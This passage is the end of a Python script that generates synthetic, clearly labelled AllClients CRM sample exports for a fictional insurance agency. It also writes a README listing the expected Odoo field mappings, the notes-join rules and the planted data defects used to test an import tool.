    ("Groups", "group_names (virtual): 'Group: <name>' partner tags, or a sales team per group (project option 'Source groups become')"),
    ("Category", "x_category (new selection)"),
    ("Source", "source_id (virtual)"),
    ("Team Member", "user_id"),
    ("Add Date", "create_date (virtual)"),
    ("Edit Date", "write_date (virtual)"),
    ("Anniversary", "x_anniversary (new date)"),
    ("Policy Count", "x_policy_count (new integer)"),
    ("Annual Premium", "x_annual_premium (new float, money transform)"),
    ("Preferred Method", "x_preferred_method (new selection)"),
    ("Interests", "x_interests (new many2many tags on res.partner.category: custom_field_specs() finds several choices per cell)"),
]  # fmt: skip


def _cell(text) -> str:
    return str(text).replace("|", "\\|").replace("\n", "\\n")


def render_readme(summary: dict) -> str:
    out = [
        "# samples/allclients/",
        "",
        'Synthetic AllClients exports of a small insurance agency ("Carver Insurance", 4 team',
        "members). Nothing here is real: names are generated, emails use `.example` domains,",
        "phones the fictional 555-01xx range. Made by `samples/gen_allclients.py` (seeded,",
        "standard library only, no network, no clock; the same run gives the same bytes):",
        "",
        "```",
        "python samples/gen_allclients.py          # rewrites samples/allclients/ and this README",
        "```",
        "",
        "Read them with `engine.sources.allclients.AllClientsSource` (`--system allclients`):",
        "headers are normalised to the spellings used here, whatever the export wrote",
        "(`contactid`, `Contact Id`, `phone1`, `adddate`, `custom3`...).",
        "",
        "## Files",
        "",
        "| file | rows | columns | object_hint | format |",
        "|---|---|---|---|---|",
    ]
    for name, info in summary["files"].items():
        kind, note = FILE_NOTES[name]
        out.append(f"| {name} | {info['rows']} | {info['columns']} | {kind} | {note} |")
    out += [
        "",
        "Object kinds and their Odoo models: contact -> res.partner, note -> mail.message",
        "(chatter, original date), activity -> mail.activity (done ones archived with",
        "date_done), user -> res.users, template -> mail.template, campaign -> crm.tag,",
        "group -> res.partner.category ('Group: ' tags), attachment -> ir.attachment.",
        "",
        "## Expected proposals for contacts.csv",
        "",
        "Object contact (res.partner); key `Contact ID`.",
        "",
        "| column | field |",
        "|---|---|",
    ]
    out += [f"| {col} | {field} |" for col, field in EXPECTED_FIELDS]
    out += [
        "",
        "## Notes join (rejoin_notes on contacts.csv + notes.csv)",
        "",
        "By email (normalised) first; the note's Contact ID when the email is missing,",
        "changed or shared; an orphan (review queue, with the reason) when neither finds",
        "exactly one contact or when email and id name two different contacts.",
        "",
        "## Planted defects",
        "",
        "Lines are physical lines (header = line 1).",
        "",
        "| file | line | column | value | expected outcome |",
        "|---|---|---|---|---|",
    ]
    for d in summary["defects"]:
        out.append(
            f"| {d['file']} | {d['line']} | {d['column']} | `{_cell(d['value'])}` | "
            f"{_cell(d['expected'])} |"
        )
    out.append("")
    return "\n".join(out)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT)
    parser.add_argument("--no-readme", action="store_true")
    parser.add_argument("--defects-json", type=Path)
    args = parser.parse_args(argv)
    summary = generate(args.out, readme=not args.no_readme)
    if args.defects_json:
        args.defects_json.write_text(json.dumps(summary, indent=2), encoding="utf-8")
    for name, info in summary["files"].items():
        print(f"{args.out / name}: {info['rows']} rows")
    print(f"{len(summary['defects'])} planted defects")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
